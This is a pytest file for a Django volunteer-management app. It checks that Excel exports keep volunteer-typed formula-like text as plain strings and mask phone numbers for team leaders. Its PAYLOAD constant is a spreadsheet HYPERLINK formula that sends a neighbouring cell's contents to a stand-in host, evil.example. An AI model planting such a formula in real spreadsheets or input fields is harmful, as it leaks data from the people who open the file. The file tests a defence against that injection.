"""Excel exports: text a volunteer can type (their own skills, through the API) never turns
into a formula in a staff member's spreadsheet; non-staff get masked personal data."""

from __future__ import annotations

import datetime
from io import BytesIO

from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from activities.models import ServiceRecord
from tests.factories import ActivityFactory

PAYLOAD = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'


def _cells(content: bytes) -> list:
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_a_volunteers_own_text_stays_text_in_the_staff_export(world):
    api = APIClient()
    api.force_authenticate(world.volunteer)
    changed = api.patch(f"/api/v1/volunteers/{world.volunteer_profile.pk}/", {"skills": PAYLOAD}, format="json")
    assert changed.status_code == 200, changed.content
    staff = Client()
    staff.force_login(world.staff)
    response = staff.get("/volunteers/?export=xlsx")
    assert response.status_code == 200
    cells = [c for c in _cells(response.content) if c.value == PAYLOAD]
    assert cells, "the skills cell is in the export"
    assert all(c.data_type == "s" for c in cells)


def test_the_national_export_keeps_formula_like_text_as_text(world):
    world.volunteer_profile.skills = PAYLOAD
    world.volunteer_profile.name = "=1+1"
    world.volunteer_profile.save()
    activity = ActivityFactory(community=world.community, team=world.team)
    ServiceRecord.objects.create(
        volunteer=world.volunteer_profile,
        activity=activity,
        community=world.community,
        date=datetime.date(2026, 10, 5),
        hours=2,
        content=PAYLOAD,
        status=ServiceRecord.Status.CONFIRMED,
    )
    staff = Client()
    staff.force_login(world.staff)
    response = staff.get("/volunteers/national-export/", {"date_from": "2026-10-01", "date_to": "2026-10-31"})
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert risky
    assert all(c.data_type == "s" for c in risky)


def test_a_team_leaders_volunteer_export_is_masked(world):
    world.volunteer_profile.phone = "13912345678"
    world.volunteer_profile.save()
    leader = Client()
    leader.force_login(world.leader)
    response = leader.get("/volunteers/?export=xlsx")
    assert response.status_code == 200
    values = [str(c.value) for c in _cells(response.content)]
    assert "13912345678" not in values
    assert "139****5678" in values
